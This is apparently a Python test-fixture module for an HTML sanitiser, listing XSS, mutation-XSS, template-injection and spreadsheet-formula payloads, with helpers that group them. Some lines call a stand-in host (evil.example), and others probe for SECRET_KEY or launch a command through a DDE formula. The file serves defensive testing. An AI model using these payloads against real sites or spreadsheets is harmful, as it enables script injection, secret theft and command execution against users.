"""What should run nowhere: our own list. `xq7` marks what would be ours if it came out whole."""

from . import detect

HIT = "window.__hit=1"

TAGS = (
    f"<script>{HIT}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>", f"<script\n>{HIT}</script\n>",
    f"<script/xq7>{HIT}</script>", f"<<script>{HIT}//<</script>", "<xq7>é</xq7>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.__hit=1>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input type=submit xq7>", "<applet code=x>",
    "<frameset onload=window.__hit=1>", "<template><script>window.__hit=1</script></template>",
    "<portal src=//evil.example>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__hit=1>\">",
    "<dialog open xq7>x</dialog>", "<plaintext>", "<xmp><img src=x onerror=window.__hit=1></xmp>",
    "<marquee xq7>", "<slot name=xq7>", "<bgsound src=javascript:alert(1)>",
    "<keygen autofocus onfocus=window.__hit=1>",
)  # fmt: skip
HANDLERS = (
    f"<img src=x onerror={HIT}>", f"<img src=x onerror='{HIT}'>", f"<body onload={HIT}>",
    f"<svg onload={HIT}>", f"<svg/onload={HIT}>", f"<input autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}>x</details>", f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>", f"<a href=# onclick={HIT}>x</a>", f"<p onmouseover={HIT}>x</p>",
    f"<p style=animation-name:x onanimationstart={HIT}>x</p>", f"<select onfocus={HIT} autofocus>",
    f"<img src=x:x onerror\x0c={HIT}>", f"<img/src=x/onerror={HIT}>",
    f"<img src=x\x00onerror={HIT}>", f"<p popover onbeforetoggle={HIT}>x</p>",
    f"<IMG SRC=x OnErRoR={HIT}>", f"<img src=`x`onerror={HIT}>",
    f"<strong onpointerrawupdate={HIT}>x</strong>",
    f"<table background=x onload={HIT}><tr><td>x</td></tr></table>",
)  # fmt: skip
LINKS = (
    "<a href=javascript:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>", "<a href=&#106;avascript:alert(1)>x</a>",
    "<a href=&#x6A&#x61vascript:alert(1)>x</a>", "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>", "<a href='ref:javascript:alert(1)'>x</a>",
    "<a href='source:\"onclick=alert(1)'>x</a>", "<a href=feed:javascript:alert(1)>x</a>",
    "<a href='ref:pages.page:1\" onclick=\"window.__hit=1'>x</a>",
    "<a href='source:x' onclick='window.__hit=1'></a>", "<a href='ref:poles.pole:1' xq7='1'>x</a>",
    "<a href=\"ref:auth.user:1\">x</a>", "<a href='//evil.example'>x</a>", "<a href='blob:x'>x</a>",
    "<a href=x target=_top ping=//evil.example>x</a>",
    "<a href='mailto:x?\"onclick=alert(1)'>x</a>",
    "<abbr title='\"><img src=x onerror=window.__hit=1>'>x</abbr>",
    "<q cite=javascript:alert(1)>x</q>", "javascript:alert(1)", "JAVASCRIPT:alert(1)//http://a.fr",
    "https://a.fr/\"onclick=alert(1)", "data:text/html,<xq7>",
)  # fmt: skip
MUTATION = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img"
    " src=1 onerror=window.__hit=1&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=window.__hit=1>'>",
    "<svg><style><img src=x onerror=window.__hit=1></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.__hit=1>",
    "<math><annotation-xml encoding=text/html><script>window.__hit=1</script>"
    "</annotation-xml></math>",
    "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></animate></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>#x></use></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg><script href=data:,window.__hit=1 /></svg>", "<!--><img src=x onerror=window.__hit=1>-->",
    "<!--<img src='--><img src=x onerror=window.__hit=1>'>",
    "<![CDATA[<script>window.__hit=1</script>]]>",
    "<?xml version='1.0'?><script>window.__hit=1</script>", "<!doctype html><body xq7>",
    "<table><td><a><table><xq7>", "<p title='<xq7>'>x<p title=\"'<xq7>\">",
    "<dl><dt><script>window.__hit=1</script></dl>", "<li><xq7/></li></ul></main></body>",
    "</title><script>window.__hit=1</script>", "</textarea><script>window.__hit=1</script>",
    "</style><script>window.__hit=1</script>", "<div><p></main><main><h1>x</h1>",
    "<sup id=fn1 xq7>1</sup>",
)  # fmt: skip
STYLES = (
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import '//evil.example/x.css';</style>", "<p style=behavior:url(x)>x</p>",
    "<style>*{color:red}</style>", "<p style='position:fixed;inset:0' class=xq7>x</p>",
    "<span lang='fr\" style=\"x' xq7>x</span>", "<td colspan='1\" onclick=\"alert(1)'>x</td>",
)  # fmt: skip
BREAKERS = (
    '"><xq7>', "'><xq7>", '" onmouseover="window.__hit=1',
    "' onfocus='window.__hit=1' autofocus x='", "` onclick=window.__hit=1 `",
    "</script><script>window.__hit=1</script>", "<!--<script>", "\\u003c/script\\u003e<xq7>",
    '{"@type":"x"}</script><xq7>', "]]></xq7>", '"}]}</script><img src=x onerror=window.__hit=1>',
    "\u2028window.__hit=1", "--></script><xq7>", "\\\"><xq7>", "&lt;xq7&gt;", "&amp;lt;xq7&amp;gt;",
    "%3Cxq7%3E", "\uff1cscript\uff1ewindow.__hit=1\uff1c/script\uff1e",
    "+ADw-script+AD4-window.__hit=1+ADw-/script+AD4-", "\u202e<xq7>", "&NewLine;<xq7>",
)  # fmt: skip
TEMPLATES = (
    "{{ 7|add:7 }}", "{% debug %}", "{{ settings.SECRET_KEY }}", "{% load x %}", "{{''.__class__}}",
    "${7*7}", "#{7*7}", "%(x)s %s %n", "{{constructor.constructor('window.__hit=1')()}}",
    "{0.__class__}", "<%= 7 %>", "{# x #}", "[[${7*7}]]", "*{7*7}",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-1+1", "@SUM(1)",
    "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", " =1+1", "'=1+1", "\"=1+1",
    ";=1+1", "\n=1+1",
)  # fmt: skip
SHORT = ("<b xq7>", "'\"><p>", "=1", "{{1}}", "<a>", "\"'", "</a")  # where a field takes little

ALL = (*TAGS, *HANDLERS, *LINKS, *MUTATION, *STYLES, *BREAKERS, *TEMPLATES, *FORMULAS)


def takes_what_follows(vector: str) -> bool:
    """Whether a browser would read what stands after it as a part of it."""
    page = detect.tree(f"<div>{vector}<i class='after'></i></div>")
    return not any(element.get("class") == "after" for element in page.iter("i"))


def grouped() -> list[str]:
    """All vectors in a few long texts: one that takes what follows is the last of its text."""
    last = [one for one in ALL if takes_what_follows(one)]
    others = [one for one in ALL if one not in last]
    return [" ".join((*others[at :: len(last)], one)) for at, one in enumerate(last)]
